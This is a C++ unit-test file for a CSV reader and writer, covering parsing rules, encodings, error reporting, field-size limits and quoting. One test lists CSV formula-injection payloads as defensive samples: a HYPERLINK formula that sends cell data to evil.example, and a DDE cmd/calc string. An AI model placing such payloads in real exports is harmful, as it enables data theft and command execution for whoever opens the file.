// The CSV reader and writer (core/support/csv.h): what RFC 4180 allows is read exactly, with the
// line each record starts on; what it does not is refused with the line a person can look at;
// a field past the limit is refused without reading on, in time linear in the input.

#include "csv.h"

#include <catch2/catch.hpp>

#include <ctime>
#include <string>
#include <utility>
#include <vector>

namespace {

using office::csv::Record;
using Rows = std::vector<std::pair<std::size_t, std::vector<std::string>>>;

Rows rows_of(std::string_view bytes, std::size_t max_field_bytes = office::csv::kDefaultMaxFieldBytes) {
    const auto parsed = office::csv::read(bytes, max_field_bytes);
    if (parsed.error) FAIL("refused at line " << parsed.error->line << ": " << parsed.error->why);
    Rows rows;
    for (const Record& r : parsed.records) rows.emplace_back(r.line, r.fields);
    return rows;
}

std::pair<std::size_t, std::string> refusal(std::string_view bytes,
                                            std::size_t max_field_bytes = office::csv::kDefaultMaxFieldBytes) {
    const auto parsed = office::csv::read(bytes, max_field_bytes);
    REQUIRE(parsed.error.has_value());
    CHECK(parsed.records.empty());
    return {parsed.error->line, parsed.error->why};
}

std::string row(const std::vector<std::string>& fields) {
    std::string out;
    office::csv::append_row(out, fields);
    return out;
}

}  // namespace

TEST_CASE("CSV: LF, CRLF and lone CR line ends, with or without a last one, give the same records", "[csv]") {
    const Rows expected = {{1, {"name", "email"}}, {2, {"Maria", "m@example.com"}}, {3, {"Jose", "j@example.com"}}};
    CHECK(rows_of("name,email\nMaria,m@example.com\nJose,j@example.com\n") == expected);
    CHECK(rows_of("name,email\r\nMaria,m@example.com\r\nJose,j@example.com\r\n") == expected);
    CHECK(rows_of("name,email\rMaria,m@example.com\rJose,j@example.com\r") == expected);
    CHECK(rows_of("name,email\nMaria,m@example.com\r\nJose,j@example.com") == expected);
}

TEST_CASE("CSV: a UTF-8 byte-order mark is not part of the first field, and UTF-16 with one is read as UTF-8", "[csv]") {
    const Rows expected = {{1, {"name", "email"}}, {2, {"Zoë 王", "z@example.com"}}};
    CHECK(rows_of("\xEF\xBB\xBFname,email\nZoë 王,z@example.com\n") == expected);
    // "name,email\nZoë 王,z@example.com\n" in UTF-16LE and UTF-16BE, each after its mark.
    const std::u16string text = u"name,email\nZo\u00EB \u738B,z@example.com\n";
    std::string le = "\xFF\xFE", be = "\xFE\xFF";
    for (const char16_t unit : text) {
        le += static_cast<char>(unit & 0xFF), le += static_cast<char>(unit >> 8);
        be += static_cast<char>(unit >> 8), be += static_cast<char>(unit & 0xFF);
    }
    CHECK(rows_of(le) == expected);
    CHECK(rows_of(be) == expected);
    // A surrogate pair (U+1F600) becomes one 4-byte UTF-8 sequence.
    CHECK(rows_of(std::string("\xFF\xFE" "a\0=\xD8\0\xDE", 8)) == Rows{{1, {"a\xF0\x9F\x98\x80"}}});
    CHECK(refusal(std::string("\xFF\xFE" "a\0\n\0b\0\0\xDE", 10)) ==
          std::pair<std::size_t, std::string>{2, "the file is UTF-16 but not well-formed there (save it as UTF-8)"});
    CHECK(refusal("\xFF\xFE" "a").first == 1);
}

TEST_CASE("CSV: quoted fields hold commas, doubled quotes and line ends, and records keep the line they start on", "[csv]") {
    const std::string bytes =
        "name,notes,email\r\n"
        "\"Alvarez, Maria\",\"said \"\"hola\"\"\r\nthen left\",m@example.com\r\n"
        "\"\",\"a\nb\rc\",\"\"\"\"\r\n"
        "Jose,,j@example.com";
    CHECK(rows_of(bytes) == Rows{{1, {"name", "notes", "email"}},
                                 {2, {"Alvarez, Maria", "said \"hola\"\r\nthen left", "m@example.com"}},
                                 {4, {"", "a\nb\rc", "\""}},
                                 {7, {"Jose", "", "j@example.com"}}});
}

TEST_CASE("CSV: empty lines are no records, a line of commas is empty fields, spaces are kept", "[csv]") {
    CHECK(rows_of("\n\r\na,b\n\n\n,\n  x , y\n\r\n") ==
          Rows{{3, {"a", "b"}}, {6, {"", ""}}, {7, {"  x ", " y"}}});
    CHECK(rows_of("a,b,\n").front().second == std::vector<std::string>{"a", "b", ""});
    CHECK(rows_of("").empty());
    CHECK(rows_of("\xEF\xBB\xBF").empty());
    CHECK(rows_of("\"\"").front().second == std::vector<std::string>{""});
}

TEST_CASE("CSV: every refusal names the line to look at", "[csv]") {
    using Why = std::pair<std::size_t, std::string>;
    // The line where the quote opens, however far the rest of the file goes.
    CHECK(refusal("a,b\n1,2\n\"never closed,3\n4,5\n6,7\n") == Why{3, "a quote that opens a field here is never closed"});
    CHECK(refusal("a,b\n1,x\"y\n") ==
          Why{2, "a quote inside a field that does not start with one (quote the whole field and write the quote twice: \"\")"});
    CHECK(refusal("a,b\n\"one\ntwo\" ,3\n") ==
          Why{3, "text after a closing quote (a quote inside a quoted field is written twice: \"\")"});
    CHECK(refusal(std::string("a,b\n1,2\n3,\0\n", 12)) ==
          Why{3, "a NUL byte: this is not a text file, or it is UTF-16 (save it as CSV in UTF-8)"});
    // Inside quotes too: the line of the byte, not of the record.
    CHECK(refusal("a,b\n\"x\ny\nJos\xE9\",2\n") == Why{4, "bytes that are not UTF-8 (save it as UTF-8)"});
    CHECK(refusal("a\n\xED\xA0\x80\n").first == 2);  // a UTF-16 surrogate written as UTF-8
    CHECK(refusal("a\n\xC0\xAF\n").first == 2);      // an overlong "/"
}

TEST_CASE("CSV: a field may hold exactly the limit, not one byte more, quoted or not", "[csv]") {
    CHECK(rows_of("abcd,\"ef\"\"g\"\n", 4) == Rows{{1, {"abcd", "ef\"g"}}});
    const std::string why = "a field larger than 4 bytes, the most one may hold";
    CHECK(refusal("x\nabcde\n", 4) == std::pair<std::size_t, std::string>{2, why});
    CHECK(refusal("x\n\"abc\nde\"\n", 4) == std::pair<std::size_t, std::string>{2, why});
    // Doubled quotes count once: "ab""""" is the 4 bytes ab"".
    CHECK(refusal("x\n\"ab\"\"\"\"\"\n", 3).first == 2);
    CHECK(rows_of("x\n\"ab\"\"\"\"\"\n", 4).back().second == std::vector<std::string>{"ab\"\""});
    CHECK(refusal(std::string(2 << 20, 'a')).second == "a field larger than 1 MiB, the most one may hold");
}

TEST_CASE("CSV: a 10 MB field is refused at once, plain, quoted, unclosed or all doubled quotes", "[csv]") {
    const std::size_t ten_mb = 10'000'000;
    const std::vector<std::string> files = {
        "name,email\nMaria," + std::string(ten_mb, 'x') + "\n",
        "name,email\nMaria,\"" + std::string(ten_mb, 'x') + "\"\n",
        "name,email\nMaria,\"" + std::string(ten_mb, 'x'),
        "name,email\nMaria,\"" + std::string(ten_mb, '"'),
    };
    for (const std::string& file : files) {
        const std::clock_t start = std::clock();
        const auto parsed = office::csv::read(file);
        const double cpu_seconds = static_cast<double>(std::clock() - start) / CLOCKS_PER_SEC;
        REQUIRE(parsed.error.has_value());
        CHECK(parsed.error->line == 2);
        // Linear work is milliseconds of CPU even under the sanitizers; quadratic work on 10 MB
        // would be hours. CPU time, not the clock on the wall: the machine may be busy.
        CHECK(cpu_seconds < 3.0);
    }
    CHECK(office::csv::read(files[0]).error->why == "a field larger than 1 MiB, the most one may hold");
    CHECK(office::csv::read(files[2]).error->why == "a quote that opens a field here is never closed");
    // Under the limit and closed: read.
    CHECK(rows_of("a\n\"" + std::string(1000000, '"') + "\"\n").back().second.front() == std::string(500000, '"'));
}

TEST_CASE("CSV: the writer quotes only what needs quotes and ends lines with CRLF", "[csv]") {
    CHECK(row({"id", "name", "email"}) == "id,name,email\r\n");
    CHECK(row({"Alvarez, Maria", "say \"hi\"", "a\nb", "a\rb", " lead", "trail\t", "mid dle", "Zoë 王"}) ==
          "\"Alvarez, Maria\",\"say \"\"hi\"\"\",\"a\nb\",\"a\rb\",\" lead\",\"trail\t\",mid dle,Zoë 王\r\n");
    CHECK(row({""}) == "\"\"\r\n");  // else an empty line, which is no record
    CHECK(row({"", ""}) == ",\r\n");
    CHECK(row({"\xEF\xBB\xBFx"}) == "\"\xEF\xBB\xBFx\"\r\n");
}

TEST_CASE("CSV: what the writer writes, the reader reads back exactly", "[csv]") {
    const std::vector<std::vector<std::string>> records = {
        {""}, {"", ""}, {"\xEF\xBB\xBF" "first"}, {"\"", "\"\"", ",", "\r\n", "\r", "\n"},
        {" x ", "\t", "José \"Pepe\" García", "王小明"}, {"plain", "row"},
    };
    std::string file;
    for (const auto& r : records) office::csv::append_row(file, r);
    const auto parsed = office::csv::read(file);
    REQUIRE_FALSE(parsed.error.has_value());
    std::vector<std::vector<std::string>> back;
    for (const auto& r : parsed.records) back.push_back(r.fields);
    CHECK(back == records);
}

TEST_CASE("CSV: a cell a spreadsheet would run as a formula is written after a ', which the reader takes off again", "[csv]") {
    // OWASP's CSV injection: what an agent can put in a name, and what a spreadsheet would run.
    const std::vector<std::string> formulas = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                                               "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tTab", "\rReturn", "=1+1"};
    for (const auto& f : formulas) {
        INFO(f);
        const std::string written = row({f, "plain"});
        CHECK((written.starts_with("'") || written.starts_with("\"'")));
        const auto parsed = office::csv::read(written);
        REQUIRE(parsed.records.size() == 1);
        CHECK(parsed.records[0].fields == std::vector<std::string>{f, "plain"});
    }
    // A name that really begins with ' keeps it: the mark is doubled on the way out, one taken off on the way in.
    CHECK(row({"'Brien", "O'Neil"}) == "''Brien,O'Neil\r\n");
    CHECK(office::csv::read("''Brien,O'Neil\r\n").records[0].fields == std::vector<std::string>{"'Brien", "O'Neil"});
    // What other programs write is read as they meant it: a ' before anything else stays.
    CHECK(office::csv::read("'Tis,'=1\r\n").records[0].fields == std::vector<std::string>{"'Tis", "=1"});
    std::string nullable;
    office::csv::append_nullable_row(nullable, {std::string("=cmd"), std::nullopt});
    CHECK(nullable == "'=cmd,\r\n");
}

TEST_CASE("CSV: NULL and empty text are told apart, as PostgreSQL's COPY writes them, and read back so", "[csv]") {
    using office::csv::append_nullable_row;
    std::string out;
    append_nullable_row(out, {std::string("1"), std::nullopt, std::string(""), std::string("a, \"b\"")});
    append_nullable_row(out, {std::nullopt, std::nullopt});
    CHECK(out == "1,,\"\",\"a, \"\"b\"\"\"\r\n,\r\n");
    const auto parsed = office::csv::read(out);
    REQUIRE(!parsed.error);
    REQUIRE(parsed.records.size() == 2);
    CHECK(parsed.records[0].fields == std::vector<std::string>{"1", "", "", "a, \"b\""});
    CHECK(parsed.records[0].quoted == std::vector<bool>{false, false, true, true});
    CHECK(parsed.records[1].quoted == std::vector<bool>{false, false});
}
